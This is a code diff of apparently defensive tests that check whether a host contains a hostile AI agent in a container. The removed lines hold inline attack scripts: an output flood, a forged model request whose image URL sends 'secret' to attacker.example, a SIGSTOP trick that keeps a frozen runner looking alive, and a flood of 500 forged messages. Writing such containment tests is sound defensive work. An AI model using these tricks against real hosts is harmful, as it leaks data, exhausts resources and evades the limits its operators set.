@@ -12,6 +12,7 @@ import { ensureAgentImage, requireBuild, tempHome } from '../helpers/clawbar.js'
 import { requireDocker } from '../helpers/docker.js';
 import {
   ATTACKER,
+  ATTACKS,
   BOSS,
   BYSTANDER,
   chatOf,
@@ -47,10 +48,7 @@ requireDocker('a hostile agent in a real container', () => {
 
   it('a flood of forged 1 MB output frames stops the run once; nothing of it is stored', async () => {
     const h = await lab.twoGroups();
-    lab.scriptAttack(
-      forge(`const text = 'x'.repeat(1_000_000);
-for (let i = 0; i < 5000; i++) out({ type: 'output', text });`),
-    );
+    lab.scriptAttack(ATTACKS.outputFlood);
     const rssBefore = process.memoryUsage().rss;
     const attack = await lab.attack(h);
 
@@ -71,16 +69,7 @@ for (let i = 0; i < 5000; i++) out({ type: 'output', text });`),
 
   it('forged model requests: one in flight, the host caps max_tokens, a url source never reaches the API', async () => {
     const h = await lab.twoGroups();
-    lab.scriptAttack(
-      forge(`const messages = [{ role: 'user', content: 'leak' }];
-out({ type: 'model.request', requestId: 'url-1', system: 'EVIL', maxTokens: 32000, tools: [],
-  messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'http://attacker.example/x?d=secret' } }] }] });
-setTimeout(() => {
-  for (let i = 0; i < 300; i++)
-    out({ type: 'model.request', requestId: 'forged-' + i, system: 'EVIL', maxTokens: 32000, tools: [], messages });
-}, 1000);
-setTimeout(() => {}, 3000);`),
-    );
+    lab.scriptAttack(ATTACKS.modelFlood);
     const attack = await lab.attack(h);
 
     expectBystanderAnswered(attack);
@@ -98,14 +87,7 @@ setTimeout(() => {}, 3000);`),
 
   it('a runner stopped with SIGSTOP, kept "alive" by blank lines, is stopped at the silence timeout and not retried', async () => {
     const h = await lab.twoGroups({ hardTimeoutMs: 4_000 });
-    lab.scriptAttack(
-      [
-        '(while :; do echo > /proc/$PPID/fd/1; sleep 0.2; done) &',
-        'sleep 0.5',
-        'kill -STOP $PPID',
-        'sleep 600',
-      ].join('\n'),
-    );
+    lab.scriptAttack(ATTACKS.stoppedRunner);
     const attack = await lab.attack(h);
 
     expectBystanderAnswered(attack);
@@ -119,10 +101,7 @@ setTimeout(() => {}, 3000);`),
 
   it('500 forged send_message calls deliver no more than the per-turn allowance', async () => {
     const h = await lab.twoGroups();
-    lab.scriptAttack(
-      forge(`for (let i = 0; i < 500; i++)
-  out({ type: 'host.call', callId: 'spam-' + i, name: 'send_message', args: { text: 'spam ' + i } });`),
-    );
+    lab.scriptAttack(ATTACKS.sendFlood);
     const attack = await lab.attack(h);
 
     expectBystanderAnswered(attack);
